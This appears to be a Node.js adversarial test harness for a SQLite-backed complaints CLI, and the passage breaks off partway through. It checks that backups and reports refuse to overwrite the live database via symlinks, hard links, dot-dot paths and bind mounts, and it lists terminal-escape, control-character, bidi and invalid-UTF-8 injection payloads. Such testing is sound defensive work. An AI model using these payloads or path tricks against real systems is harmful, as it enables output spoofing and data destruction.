#!/usr/bin/env node
// Repeatable adversarial sweep for `complaints` (issue 9). Plain Node 20 ESM; the only package
// used is better-sqlite3, loaded from the build folder's node_modules.
//
//   node sweep.mjs --build DIR [--out result.json] [--only 1,2,...] [--jobs 2] [--ref DIR] [--keep]
//
// DIR holds bin/complaints.js. --ref is a build of release 1 (commit a83027e), used only to make
// "older file" data for category 3: text that release accepted and hash-chained. Prints tried/clean/failed per category and one
// line per failed case; writes a JSON summary to --out; always exits 0. Run as root (categories 7
// and 10 need useradd/runuser and mount; they report "not testable" otherwise).

import { spawn, spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

// ------------------------------------------------------------------------------------------------
// options

const SCRIPT_DIR = path.dirname(fileURLToPath(import.meta.url));
const argv = process.argv.slice(2);
const opt = (name, dflt) => {
  const i = argv.indexOf(name);
  return i >= 0 && i + 1 < argv.length ? argv[i + 1] : dflt;
};
const flag = (name) => argv.includes(name);
if (!opt('--build')) {
  console.log('usage: node sweep.mjs --build DIR [--out FILE] [--only 1,2] [--case REGEX] [--jobs N] [--ref OLD_BUILD_DIR] [--keep]');
  process.exit(0);
}
const BUILD = path.resolve(opt('--build'));
const REF = path.resolve(opt('--ref', path.join(SCRIPT_DIR, 'build-release-1')));
const OUT = path.resolve(opt('--out', 'sweep-result.json'));
const JOBS = Math.max(1, Number(opt('--jobs', '3')) || 3);
const ONLY = opt('--only') ? new Set(opt('--only').split(',').map(Number)) : null;
const KEEP = flag('--keep');
const CASE_RE = opt('--case') ? new RegExp(opt('--case')) : null;
const BIN = path.join(BUILD, 'bin', 'complaints.js');
const REF_BIN = path.join(REF, 'bin', 'complaints.js');
const NODE = process.execPath;

function loadSqlite() {
  for (const dir of [BUILD, REF]) {
    try {
      return createRequire(path.join(dir, 'package.json'))('better-sqlite3');
    } catch { /* next */ }
  }
  throw new Error('better-sqlite3 not found in the build folder node_modules');
}
const Database = loadSqlite();

const WORK = fs.mkdtempSync(path.join(os.tmpdir(), 'sweep-'));
fs.chmodSync(WORK, 0o755);
fs.mkdirSync(path.join(WORK, 'home'));
const BASE_ENV = {
  PATH: process.env.PATH ?? '/usr/local/bin:/usr/bin:/bin',
  HOME: path.join(WORK, 'home'),
  TZ: 'Asia/Shanghai',
  LANG: 'en_US.UTF-8',
  NO_COLOR: '1',
  COMPLAINTS_USER: 'clerk1',
};
const AT = '2026-11-16 10:00';
const ASOF = '2026-11-20 18:00';
const MONTH = ['--month', '2026-11', '--as-of', ASOF];

// ------------------------------------------------------------------------------------------------
// running the CLI

let caseSeq = 0;
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/** bash ANSI-C quoting of a string or Buffer, byte for byte (used only when raw bytes are needed). */
function shq(x) {
  const b = Buffer.isBuffer(x) ? x : Buffer.from(String(x), 'utf8');
  if (b.length > 0 && /^[A-Za-z0-9_\/.,:=+@%-]+$/.test(b.toString('latin1'))) return b.toString('latin1');
  let s = "$'";
  for (const c of b) s += (c >= 0x30 && c <= 0x39) || (c >= 0x41 && c <= 0x5a) || (c >= 0x61 && c <= 0x7a) ? String.fromCharCode(c) : `\\x${c.toString(16).padStart(2, '0')}`;
  return `${s}'`;
}

/**
 * Runs a command. args may hold Buffers (raw bytes, e.g. invalid UTF-8): then it goes through
 * bash with byte-exact quoting. Returns code, signal, out, err (strings), raw buffers, ms.
 */
function runRaw(cmd, args, { env = {}, cwd = WORK, timeout = 30000, input = null, trackRss = false, maxOut = 64 << 20 } = {}) {
  const fullEnv = { ...BASE_ENV };
  const bufEnv = {};
  for (const [k, v] of Object.entries(env)) {
    if (v === undefined || v === null) delete fullEnv[k];
    else if (Buffer.isBuffer(v)) bufEnv[k] = v;
    else fullEnv[k] = v;
  }
  let file = cmd;
  let list = args;
  if (args.some(Buffer.isBuffer) || Object.keys(bufEnv).length) {
    const exports = Object.entries(bufEnv).map(([k, v]) => `export ${k}=${shq(v)}; `).join('');
    file = 'bash';
    list = ['-c', `${exports}exec ${[cmd, ...args].map(shq).join(' ')}`];
  }
  return new Promise((resolve) => {
    const t0 = Date.now();
    const child = spawn(file, list, { env: fullEnv, cwd, detached: true, stdio: ['pipe', 'pipe', 'pipe'] });
    const out = [];
    const err = [];
    let outLen = 0;
    let timedOut = false;
    let peakKb = 0;
    child.stdout.on('data', (d) => { if (outLen < maxOut) { out.push(d); outLen += d.length; } });
    child.stderr.on('data', (d) => { if (err.length < 10000) err.push(d); });
    child.stdin.on('error', () => {});
    if (input !== null) child.stdin.end(input); else child.stdin.end();
    const poll = trackRss ? setInterval(() => {
      try {
        const m = /VmHWM:\s+(\d+)/.exec(fs.readFileSync(`/proc/${child.pid}/status`, 'utf8'));
        if (m) peakKb = Math.max(peakKb, Number(m[1]));
      } catch { /* gone */ }
    }, 100) : null;
    const timer = setTimeout(() => {
      timedOut = true;
      try { process.kill(-child.pid, 'SIGKILL'); } catch { /* gone */ }
    }, timeout);
    child.on('error', (e) => err.push(Buffer.from(`spawn error: ${e.message}`)));
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      if (poll) clearInterval(poll);
      const o = Buffer.concat(out);
      const e = Buffer.concat(err);
      resolve({ code, signal: timedOut ? null : signal, timedOut, timeout, out: o.toString('utf8'), err: e.toString('utf8'), rawOut: o, rawErr: e, ms: Date.now() - t0, peakKb });
    });
  });
}

/** The build under test (or another bin) with --db first. */
function cli(db, args, o = {}) {
  const bin = o.bin ?? BIN;
  const pre = db ? ['--db', db] : [];
  return runRaw(NODE, [bin, ...pre, ...args], o);
}

/** As an unprivileged user, optionally under a umask. */
function cliAs(user, bin, db, args, { umask = null, env = {}, ...o } = {}) {
  const e = { ...BASE_ENV, ...env };
  const envArgs = Object.entries(e).filter(([, v]) => v != null).map(([k, v]) => `${k}=${v}`);
  const inner = [NODE, bin, ...(db ? ['--db', db] : []), ...args];
  const cmd = umask === null
    ? ['-u', user, '--', 'env', '-i', ...envArgs, ...inner]
    : ['-u', user, '--', 'env', '-i', ...envArgs, 'bash', '-c', `umask ${umask}; exec "$@"`, 'bash', ...inner];
  return runRaw('runuser', cmd, o);
}

// Mounts and the throwaway user are undone even when the sweep is interrupted.
const MOUNTS = new Set();
const CLEANUP = { user: null };
function mountTmpfs(dir, size) {
  const r = sh(`mount -t tmpfs -o size=${size} tmpfs ${shq(dir)}`);
  if (r.code === 0) MOUNTS.add(dir);
  return r;
}
function mountBind(src, dir) {
  const r = sh(`mount --bind ${shq(src)} ${shq(dir)}`);
  if (r.code === 0) MOUNTS.add(dir);
  return r;
}
function umount(dir) {
  const r = sh(`umount ${shq(dir)} || umount -l ${shq(dir)}`);
  MOUNTS.delete(dir);
  return r;
}
for (const sig of ['SIGINT', 'SIGTERM']) {
  process.on(sig, () => {
    for (const m of MOUNTS) sh(`umount -l ${shq(m)}`);
    if (CLEANUP.user) sh(`userdel ${CLEANUP.user}`);
    if (!KEEP) fs.rmSync(WORK, { recursive: true, force: true });
    console.log(`interrupted (${sig}); mounts and the throwaway user removed`);
    process.exit(0);
  });
}

function sh(cmd) {
  const r = spawnSync('bash', ['-c', cmd], { encoding: 'utf8' });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

// ------------------------------------------------------------------------------------------------
// looking at the database without writing to it: copy the file (and its -wal) aside and open the copy

function sha(buf) { return crypto.createHash('sha256').update(buf).digest('hex'); }

function fileState(p) {
  try {
    const st = fs.lstatSync(p);
    if (st.isSymbolicLink()) return { exists: true, link: fs.readlinkSync(p), ino: st.ino };
    if (st.isDirectory()) return { exists: true, dir: true, ino: st.ino, mode: st.mode & 0o7777 };
    return { exists: true, ino: st.ino, size: st.size, mode: st.mode & 0o7777, sha: sha(fs.readFileSync(p)) };
  } catch { return { exists: false }; }
}

function statOnly(p) {
  try {
    const st = fs.lstatSync(p);
    // inode and size only: a reader legitimately touches the -shm (read marks), an overwrite changes its size
    return { exists: true, sig: `${st.ino}:${st.size}` };
  } catch { return { exists: false, sig: 'none' }; }
}

function withCopy(db, fn) {
  const tmp = fs.mkdtempSync(path.join(WORK, 'fp-'));
  try {
    fs.copyFileSync(db, path.join(tmp, 'f.db'));
    if (fs.existsSync(`${db}-wal`)) fs.copyFileSync(`${db}-wal`, path.join(tmp, 'f.db-wal'));
    const d = new Database(path.join(tmp, 'f.db'));
    try { return fn(d); } finally { d.close(); }
  } finally {
    fs.rmSync(tmp, { recursive: true, force: true });
  }
}

/** Logical fingerprint: counts, newest event hash, digest of every table a command writes. */
function fingerprint(db) {
  if (!fs.existsSync(db)) return { key: 'missing', missing: true, integrity: 'missing' };
  try {
    return withCopy(db, (d) => {
      const q = (sql) => { try { return d.prepare(sql).all(); } catch (e) { return `ERR ${e.message}`; } };
      let integrity;
      try { integrity = d.pragma('integrity_check', { simple: true }); } catch (e) { integrity = `ERR ${e.message}`; }
      const tickets = q('SELECT count(*) n FROM tickets');
      const events = q('SELECT count(*) n FROM events');
      const head = q('SELECT id, hash FROM events ORDER BY id DESC LIMIT 1');
      const digest = sha(JSON.stringify([
        q('SELECT * FROM tickets ORDER BY id'), q('SELECT * FROM deadlines ORDER BY ticket_id, key'),
        q('SELECT * FROM settings ORDER BY key'), q('SELECT * FROM calendar_days ORDER BY date'),
        q('SELECT * FROM ticket_counters ORDER BY year'), tickets, events, head,
      ]));
      const nt = Array.isArray(tickets) ? tickets[0].n : tickets;
      const ne = Array.isArray(events) ? events[0].n : events;
      const mh = Array.isArray(head) && head[0] ? head[0].hash.slice(0, 12) : '-';
      return { key: digest, tickets: nt, events: ne, head: mh, integrity };
    });
  } catch (e) {
    return { key: `unreadable ${e.message}`, integrity: `unreadable: ${e.message}` };
  }
}

function fpDiff(a, b) {
  if (a.key === b.key) return null;
  return `written: tickets ${a.tickets}->${b.tickets}, events ${a.events}->${b.events}, head ${a.head}->${b.head}`;
}

function dbQuery(db, sql, ...params) {
  return withCopy(db, (d) => d.prepare(sql).all(...params));
}

// ------------------------------------------------------------------------------------------------
// judging

const STACK_RE = /^\s+at\s+\S.*(\(.*:\d+:\d+\)|:\d+:\d+)\s*$|node:internal\/|^\S*Error: .*\n\s+at /m;
// C0 (but tab and newline), DEL, C1, and bidi controls/marks.
const BAD_OUT_RE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const esc = (s) => String(s).replace(/[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
const short = (s, n = 110) => { const t = esc(String(s).trim().split('\n')[0] ?? ''); return t.length > n ? `${t.slice(0, n - 3)}...` : t; };
const firstLine = (r) => short(r.err || r.out);

function badChars(s) {
  const found = new Set();
  for (const ch of s) if (BAD_OUT_RE.test(ch)) found.add(`U+${ch.codePointAt(0).toString(16).toUpperCase().padStart(4, '0')}`);
  return [...found];
}

/** Problems every run must avoid. */
function basic(r, p, label = '') {
  const L = label ? `${label}: ` : '';
  if (r.timedOut) { p.push(`${L}timed out after ${r.timeout / 1000}s`); return; }
  if (r.signal) p.push(`${L}killed by ${r.signal}`);
  if (/unexpected failure/i.test(r.err) || /unexpected failure/i.test(r.out)) p.push(`${L}"unexpected failure": ${short(r.err.match(/.*unexpected failure.*/i)?.[0] ?? r.out)}`);
  if (STACK_RE.test(r.err) || STACK_RE.test(r.out)) p.push(`${L}stack trace on output`);
}

function exitIs(r, codes, p, label = '') {
  if (r.timedOut) return;
  const L = label ? `${label}: ` : '';
  if (!codes.includes(r.code)) p.push(`${L}exit ${r.code} (expected ${codes.join(' or ')})${r.code !== 0 ? ` "${firstLine(r)}"` : ''}`);
}

function oneLine(r, p, label = '') {
  if (r.timedOut || r.code === 0) return;
  const L = label ? `${label}: ` : '';
  const lines = r.err.replace(/\n+$/, '').split('\n');
  if (r.err.trim() === '') p.push(`${L}refusal with empty stderr`);
  else if (lines.length !== 1) p.push(`${L}refusal stderr has ${lines.length} lines: ${short(lines.join(' | '), 140)}`);
}

/** A refusal: exit code in codes, one stderr line, and the database unchanged. */
function refused(r, codes, p, before, after, label = '') {
  basic(r, p, label);
  exitIs(r, codes, p, label);
  oneLine(r, p, label);
  if (before && after) {
    const d = fpDiff(before, after);
    if (d) p.push(`${label ? `${label}: ` : ''}${d}`);
  }
}

function cleanOutput(r, p, label = '') {
  const L = label ? `${label}: ` : '';
  const bo = badChars(r.out);
  const be = badChars(r.err);
  if (bo.length) p.push(`${L}raw ${bo.join(',')} on stdout`);
  if (be.length) p.push(`${L}raw ${be.join(',')} on stderr`);
}

async function integrityAndVerify(db, p, { verify = true, label = '' } = {}) {
  const L = label ? `${label}: ` : '';
  const f = fingerprint(db);
  if (f.integrity !== 'ok') p.push(`${L}integrity_check: ${short(f.integrity)}`);
  if (verify) {
    const v = await cli(db, ['verify'], { timeout: 60000 });
    basic(v, p, `${L}verify`);
    if (v.code !== 0) p.push(`${L}verify exit ${v.code}: ${short(v.out.split('\n').find((l) => l.trim()) ?? v.err)}`);
  }
  return f;
}

// ------------------------------------------------------------------------------------------------
// templates

function caseDir(tag = 'c') {
  const d = path.join(WORK, `${tag}-${++caseSeq}`);
  fs.mkdirSync(d, { recursive: true });
  return d;
}

function copyDb(tpl, dir, name = 'c.db') {
  const db = path.join(dir, name);
  fs.copyFileSync(tpl, db);
  fs.chmodSync(db, 0o660);
  return db;
}

const TEMPLATE_STEPS = [
  ['log', '--name', 'A', '--phone', '13800000000', '--channel', 'phone', '--category', 'delivery', '--subject', 's1', '--amount', '25', '--at', '2026-11-02 10:00', '--yes'],
  ['log', '--name', 'B', '--phone', '13800000001', '--channel', 'email', '--category', 'product', '--subject', 's2', '--unit', 'Logistics', '--to', 'Li', '--at', '2026-11-02 11:00', '--yes'],
  ['reply', 'C2026-00002', '--via', 'phone', '--message', 'hi', '--at', '2026-11-03 10:00'],
  ['log', '--name', 'C', '--phone', '13800000002', '--channel', 'web', '--category', 'service', '--subject', 's3', '--unit', 'Quality', '--at', '2026-11-03 09:30', '--yes'],
  ['close', 'C2026-00003', '--resolution', 'done', '--fault', 'company', '--compensation', '10', '--compensation-kind', 'cash', '--at', '2026-11-05 10:00'],
  ['log', '--name', 'D', '--phone', '13800000003', '--channel', 'web', '--category', 'service', '--subject', 's4', '--unit', 'Quality', '--at', '2026-11-03 09:40', '--yes'],
  ['close', 'C2026-00004', '--resolution', 'done', '--fault', 'company', '--at', '2026-11-05 10:00'],
  ['survey', 'C2026-00004', '--score', '4', '--at', '2026-11-06 10:00'],
];

async function makeTemplate(name, { bin = BIN, steps = TEMPLATE_STEPS, pre = [], warm = true } = {}) {
  const dir = path.join(WORK, 'tpl', name);
  fs.mkdirSync(dir, { recursive: true });
  const db = path.join(dir, 'c.db');
  for (const s of [...pre, ...steps]) {
    const r = await cli(db, s, { bin });
    if (r.code !== 0) throw new Error(`template ${name}: ${s.join(' ')} -> exit ${r.code} ${firstLine(r)}`);
  }
  if (!warm) return db;
  // warm up with the build under test (an older file is upgraded here, once, not in every case)
  const v = await cli(db, ['verify']);
  if (v.code !== 0) throw new Error(`template ${name}: verify exit ${v.code} ${firstLine(v)}`);
  for (const ext of ['-wal', '-shm']) if (fs.existsSync(db + ext)) throw new Error(`template ${name}: ${ext} left behind`);
  return db;
}

let mainTplPromise = null;
const mainTemplate = () => (mainTplPromise ??= makeTemplate('main'));
let emptyTplPromise = null;
/** An initialised database with no tickets (demo fills only an empty file). */
const emptyTemplate = () => (emptyTplPromise ??= makeTemplate('empty', { steps: [['calendar', 'show']] }));

// ------------------------------------------------------------------------------------------------
// the case registry and the pool

const CATEGORIES = [];
function category(n, name, fn) { CATEGORIES.push({ n, name, fn }); }

async function pool(items, jobs, worker) {
  let i = 0;
  const runners = Array.from({ length: Math.min(jobs, items.length) }, async () => {
    while (i < items.length) {
      const k = i++;
      await worker(items[k], k);
    }
  });
  await Promise.all(runners);
}

/** cases: [{id, desc, run: async () => problems[] }]; opts.jobs overrides the parallelism. */
async function runCases(cat, cases, { jobs = JOBS } = {}) {
  if (CASE_RE) cases = cases.filter((c) => CASE_RE.test(c.desc) || CASE_RE.test(c.id));
  await pool(cases, jobs, async (c) => {
    let problems;
    try {
      problems = await c.run();
    } catch (e) {
      problems = [`HARNESS ERROR ${short(e.stack ?? e.message, 200)}`];
      cat.harnessErrors++;
    }
    cat.tried++;
    if (problems.length === 0) { cat.clean++; cat.cleanCases.push(c.desc ?? c.id); }
    else {
      cat.failed++;
      cat.failures.push({ id: c.id, desc: c.desc, why: problems.join('; ') });
    }
  });
}

// ================================================================================================
// 1. backups and outputs onto the live database

function liveLayout(tpl) {
  const dir = caseDir('out');
  const real = path.join(dir, 'real');
  fs.mkdirSync(real);
  fs.mkdirSync(path.join(real, 'sub'));
  const db = copyDb(tpl, real);
  fs.symlinkSync('real', path.join(dir, 'link'));
  fs.mkdirSync(path.join(dir, 'other'));
  fs.symlinkSync(path.join(real, 'sub'), path.join(dir, 'other', 'lnk')); // other/lnk/../c.db is real/c.db for the kernel
  fs.linkSync(db, path.join(dir, 'hl.db'));
  fs.writeFileSync(path.join(dir, 'victim.txt'), 'precious\n');
  fs.symlinkSync(path.join(dir, 'victim.txt'), path.join(dir, 'victim-link.csv'));
  return { dir, real, db };
}

function dirListing(d) {
  return fs.readdirSync(d).filter((f) => !f.startsWith('.')).sort().join(',');
}

category(1, 'backup/outputs onto the live DB', async (cat) => {
  const tpl = await mainTemplate();
  const cases = [];
  // target routes: [name, path relative to the case dir, isDatabase (must be refused always)]
  const dbRoutes = [
    ['direct', 'real/c.db'], ['symlinked folder', 'link/c.db'], ['hard link', 'hl.db'], ['dot-dot via symlink', 'other/lnk/../c.db'],
    ['lexical dot-dot', 'real/../real/c.db'], ['double slash', 'real//c.db'], ['dot segment', './real/./c.db'],
    ['-wal direct', 'real/c.db-wal'], ['-shm direct', 'real/c.db-shm'], ['-journal direct', 'real/c.db-journal'],
    ['-wal via symlink', 'link/c.db-wal'], ['-shm via symlink', 'link/c.db-shm'], ['-journal via symlink', 'link/c.db-journal'],
    ['-wal via dot-dot', 'other/lnk/../c.db-wal'], ['-shm via dot-dot', 'other/lnk/../c.db-shm'],
  ];
  // While `hold` keeps a connection open, the harness must not open the live files itself: closing
  // any descriptor of a file drops this process's POSIX locks on it (SQLite would then think the
  // holder is gone). So the live files are hashed before the holder opens, and only stat()ed while
  // it is open.
  const liveCase = (id, desc, mkArgs, { expect, hold = false, dbVia = 'real/c.db', victim = null, mustCreate = null, codes = [1] }) => cases.push({
    id, desc, run: async () => {
      const p = [];
      const L = liveLayout(tpl);
      const liveBefore = fileState(L.db);
      const fpBefore = fingerprint(L.db);
      const victimBefore = victim ? fileState(path.join(L.dir, victim)) : null;
      let holder = null;
      if (hold) { // an open connection: the live -wal and -shm exist while the command runs
        holder = new Database(L.db);
        holder.prepare('SELECT count(*) FROM tickets').get();
      }
      const listBefore = dirListing(L.real);
      const walBefore = statOnly(`${L.db}-wal`);
      const shmBefore = statOnly(`${L.db}-shm`);
      const r = await cli(path.join(L.dir, dbVia), mkArgs(L), { cwd: L.dir });
      const walAfter = statOnly(`${L.db}-wal`);
      const shmAfter = statOnly(`${L.db}-shm`);
      const listAfter = dirListing(L.real);
      if (holder) { try { holder.close(); } catch (e) { p.push(`closing the open connection: ${short(e.message)}`); } }
      basic(r, p);
      if (expect === 'refuse') { exitIs(r, codes, p); oneLine(r, p); } else exitIs(r, [0], p);
      const liveAfter = fileState(L.db);
      if (liveAfter.ino !== liveBefore.ino) p.push('live DB file replaced (inode changed)');
      else if (liveAfter.sha !== liveBefore.sha) p.push('live DB bytes changed');
      if (hold && walBefore.exists && walAfter.sig !== walBefore.sig) p.push('live -wal overwritten');
      if (hold && shmBefore.exists && shmAfter.sig !== shmBefore.sig) p.push('live -shm overwritten');
      if (listAfter !== listBefore) p.push(`files beside the live DB changed: ${listBefore} -> ${listAfter}`);
      if (victim) {
        const va = fileState(path.join(L.dir, victim));
        if (expect === 'refuse' && va.sha !== victimBefore.sha) p.push(`existing file ${victim} overwritten`);
        if (expect === 'ok' && va.sha === victimBefore.sha) p.push(`--force did not replace ${victim}`);
      }
      if (mustCreate && expect === 'ok' && !fs.existsSync(path.join(L.dir, mustCreate))) p.push(`${mustCreate} not written`);
      const f = await integrityAndVerify(L.db, p);
      const fd = fpDiff(fpBefore, f);
      if (fd) p.push(`live DB ${fd}`);
      return p;
    },
  });

  let k = 0;
  const nid = () => `1.${String(++k).padStart(3, '0')}`;
  // backup onto the database by every route, with and without --force, idle and with an open connection
  for (const [name, rel] of dbRoutes) {
    for (const force of [false, true]) {
      liveCase(nid(), `backup ${force ? '--force ' : ''}${rel} (${name})`, (L) => ['backup', ...(force ? ['--force'] : []), `${L.dir}/${rel}`], { expect: 'refuse' });
    }
    if (rel.includes('-wal') || rel.includes('-shm') || ['link/c.db', 'hl.db', 'other/lnk/../c.db'].includes(rel)) {
      liveCase(nid(), `backup --force ${rel} (${name}) while a connection is open`, (L) => ['backup', '--force', `${L.dir}/${rel}`], { expect: 'refuse', hold: true });
    }
  }
  // the database named through a symlink / hard link, the target by its real path
  liveCase(nid(), 'backup --force real/c.db with --db link/c.db', (L) => ['backup', '--force', path.join(L.dir, 'real/c.db')], { expect: 'refuse', dbVia: 'link/c.db' });
  liveCase(nid(), 'backup --force real/c.db with --db hl.db', (L) => ['backup', '--force', path.join(L.dir, 'real/c.db')], { expect: 'refuse', dbVia: 'hl.db' });
  liveCase(nid(), 'backup --force link/c.db relative to cwd', () => ['backup', '--force', 'link/c.db'], { expect: 'refuse' });
  // ordinary targets
  liveCase(nid(), 'backup onto an existing file without --force', (L) => ['backup', path.join(L.dir, 'victim.txt')], { expect: 'refuse', victim: 'victim.txt' });
  liveCase(nid(), 'backup onto a symlink to an existing file without --force', (L) => ['backup', path.join(L.dir, 'victim-link.csv')], { expect: 'refuse', victim: 'victim.txt' });
  liveCase(nid(), 'backup --force onto an existing file (allowed)', (L) => ['backup', '--force', path.join(L.dir, 'victim.txt')], { expect: 'ok', victim: 'victim.txt' });
  liveCase(nid(), 'backup to a new file (allowed)', (L) => ['backup', path.join(L.dir, 'new.db')], { expect: 'ok', mustCreate: 'new.db' });
  liveCase(nid(), 'backup onto a directory', (L) => ['backup', path.join(L.dir, 'other')], { expect: 'refuse', codes: [1, 2] });

  // report --output onto the database by every route, per format
  const formats = ['csv', 'md', 'html', 'json', 'table'];
  for (const [name, rel] of dbRoutes) {
    for (const fmt of (['direct', 'symlinked folder', 'hard link', 'dot-dot via symlink'].includes(name) ? formats : ['csv'])) {
      liveCase(nid(), `report --format ${fmt} --output ${rel} (${name})`, (L) => ['report', ...MONTH, '--format', fmt, '--output', `${L.dir}/${rel}`], { expect: 'refuse' });
    }
    liveCase(nid(), `report --force --output ${rel} (${name})`, (L) => ['report', ...MONTH, '--format', 'csv', '--force', '--output', `${L.dir}/${rel}`], { expect: 'refuse' });
    if (rel.includes('-wal') || rel.includes('-shm') || rel === 'real/c.db' || rel === 'hl.db') {
      liveCase(nid(), `report --output ${rel} (${name}) while a connection is open`, (L) => ['report', ...MONTH, '--format', 'csv', '--output', `${L.dir}/${rel}`], { expect: 'refuse', hold: true });
    }
  }
  liveCase(nid(), 'report --output real/c.db with --db link/c.db', (L) => ['report', ...MONTH, '--format', 'csv', '--output', path.join(L.dir, 'real/c.db')], { expect: 'refuse', dbVia: 'link/c.db' });
  liveCase(nid(), 'report --output onto an existing file without --force', (L) => ['report', ...MONTH, '--format', 'csv', '--output', path.join(L.dir, 'victim.txt')], { expect: 'refuse', victim: 'victim.txt' });
  liveCase(nid(), 'report --format md --output onto an existing file without --force', (L) => ['report', ...MONTH, '--format', 'md', '--output', path.join(L.dir, 'victim.txt')], { expect: 'refuse', victim: 'victim.txt' });
  liveCase(nid(), 'report --output via a symlink to an existing file', (L) => ['report', ...MONTH, '--format', 'csv', '--output', path.join(L.dir, 'victim-link.csv')], { expect: 'refuse', victim: 'victim.txt' });
  liveCase(nid(), 'report --force --output onto an existing file (allowed)', (L) => ['report', ...MONTH, '--format', 'csv', '--force', '--output', path.join(L.dir, 'victim.txt')], { expect: 'ok', victim: 'victim.txt' });
  liveCase(nid(), 'report --output to a new file (allowed)', (L) => ['report', ...MONTH, '--format', 'csv', '--output', path.join(L.dir, 'new.csv')], { expect: 'ok', mustCreate: 'new.csv' });
  liveCase(nid(), 'report --output onto a directory', (L) => ['report', ...MONTH, '--format', 'csv', '--output', path.join(L.dir, 'other')], { expect: 'refuse', codes: [1, 2] });

  // bind mount of the live folder
  const bindCase = (id, desc, mk) => cases.push({
    id, desc, run: async () => {
      const p = [];
      const L = liveLayout(tpl);
      const bind = path.join(L.dir, 'bind');
      fs.mkdirSync(bind);
      const m = mountBind(L.real, bind);
      if (m.code !== 0) return [`NOT TESTABLE: mount --bind refused: ${short(m.err)}`];
      try {
        const before = fileState(L.db);
        const fp0 = fingerprint(L.db);
        const r = await cli(L.db, mk(bind));
        refused(r, [1], p);
        const after = fileState(L.db);
        if (after.ino !== before.ino) p.push('live DB file replaced (inode changed)');
        else if (after.sha !== before.sha) p.push('live DB bytes changed');
        const f = await integrityAndVerify(L.db, p);
        const fd = fpDiff(fp0, f);
        if (fd) p.push(`live DB ${fd}`);
      } finally {
        umount(bind);
      }
      return p;
    },
  });
  bindCase(nid(), 'backup --force bind/c.db (bind mount of the live folder)', (b) => ['backup', '--force', path.join(b, 'c.db')]);
  bindCase(nid(), 'report --output bind/c.db (bind mount of the live folder)', (b) => ['report', ...MONTH, '--format', 'csv', '--output', path.join(b, 'c.db')]);

  await runCases(cat, cases);

  // concurrent writers while backing up onto the live file
  const conc = [];
  const concCase = (id, desc, targetRel) => conc.push({
    id, desc, run: async () => {
      const p = [];
      const L = liveLayout(tpl);
      const receipts = [];
      const writerProblems = [];
      const WRITERS = 4;
      const PER = 20;
      let stop = false;
      const writer = async (w) => {
        for (let i = 0; i < PER && !stop; i++) {
          const r = await cli(L.db, ['log', '--name', `W${w}-${i}`, '--phone', '13800000000', '--channel', 'phone', '--category', 'other', '--subject', `writer ${w} ${i}`, '--at', AT, '--yes'], { env: { COMPLAINTS_BUSY_TIMEOUT_MS: '15000' } });
          const m = /C\d{4}-\d{5}/.exec(r.out);
          if (r.code === 0 && m) receipts.push(m[0]);
          const q = [];
          basic(r, q);
          if (q.length) writerProblems.push(`writer: ${q[0]}`);
        }
      };
      const backups = async () => {
        const res = [];
        for (let b = 0; b < 3; b++) {
          await sleep(1500);
          res.push(await cli(L.db, ['backup', '--force', `${L.dir}/${targetRel}`]));
        }
        return res;
      };
      const [bres] = await Promise.all([backups(), ...Array.from({ length: WRITERS }, (_, w) => writer(w))]);
      stop = true;
      bres.forEach((r, i) => refused(r, [1], p, null, null, `backup #${i + 1}`));
      p.push(...[...new Set(writerProblems)].slice(0, 2));
      await integrityAndVerify(L.db, p);
      let present = null;
      try { present = new Set(dbQuery(L.db, 'SELECT no FROM tickets').map((r) => r.no)); } catch (e) { p.push(`cannot read tickets: ${short(e.message)}`); }
      const missing = present ? receipts.filter((no) => !present.has(no)) : [];
      if (missing.length) p.push(`${missing.length} of ${receipts.length} printed receipts missing (e.g. ${missing.slice(0, 3).join(' ')})`);
      if (receipts.length < WRITERS * PER / 2) p.push(`only ${receipts.length} of ${WRITERS * PER} logs succeeded`);
      return p;
    },
  });
  concCase(`1.${++k}`, '4 writers looping log during backup --force link/c.db (symlinked folder)', 'link/c.db');
  concCase(`1.${++k}`, '4 writers looping log during backup --force other/lnk/../c.db', 'other/lnk/../c.db');
  concCase(`1.${++k}`, '4 writers looping log during backup --force hl.db (hard link)', 'hl.db');
  await runCases(cat, conc, { jobs: 1 });
});

// ================================================================================================
// 2. escape/control injection at input

const cp = (n) => String.fromCodePoint(n);
const NAMED_PAYLOADS = [
  ['ESC[2J', '\x1b[2J\x1b[H'], ['OSC title', '\x1b]0;pwned\x07'], ['CR', '\r'], ['LF', '\n'], ['TAB', '\t'], ['BEL', '\x07'],
  ['BS', '\x08'], ['DEL', '\x7f'], ['NEL U+0085', '\u0085'], ['CSI U+009B', '\u009b2J'],
  ['RLO U+202E', '\u202e'], ['LRE U+202A', '\u202a'], ['LRI U+2066', '\u2066'], ['RLI U+2067', '\u2067'], ['FSI U+2068', '\u2068'], ['PDI U+2069', '\u2069'],
  ['LRM U+200E', '\u200e'], ['RLM U+200F', '\u200f'],
  ['only U+200B', { only: '\u200b' }], ['only U+FEFF', { only: '\ufeff' }], ['only U+200B U+200B U+FEFF', { only: '\u200b\u200b\ufeff' }],
  ['invalid UTF-8 FF', { bytes: [0xff] }], ['invalid UTF-8 C3 28', { bytes: [0xc3, 0x28] }], ['invalid UTF-8 surrogate ED A0 80', { bytes: [0xed, 0xa0, 0x80] }],
  ['invalid UTF-8 overlong C0 AF', { bytes: [0xc0, 0xaf] }], ['invalid UTF-8 lone 80', { bytes: [0x80] }],
];
const RANGE_PAYLOADS = [];
for (let c = 0x01; c <= 0x1f; c++) RANGE_PAYLOADS.push([`C0 ${c.toString(16).padStart(2, '0')}`, cp(c)]);
for (let c = 0x7f; c <= 0x9f; c++) RANGE_PAYLOADS.push([`C1 ${c.toString(16).padStart(2, '0')}`, cp(c)]);

// Every free-text input. long: newline/tab allowed. wrap: how a payload sits in an otherwise valid value.
const W = (s) => ['ab', s, 'cd'];
const FIELDS = [
  { f: 'log --name', cmd: (v) => logArgs({ '--name': v }) },
  { f: 'log --email', cmd: (v) => logArgs({ '--email': v, '--phone': null }), wrap: (s) => ['x', s, 'y@evil.example'] },
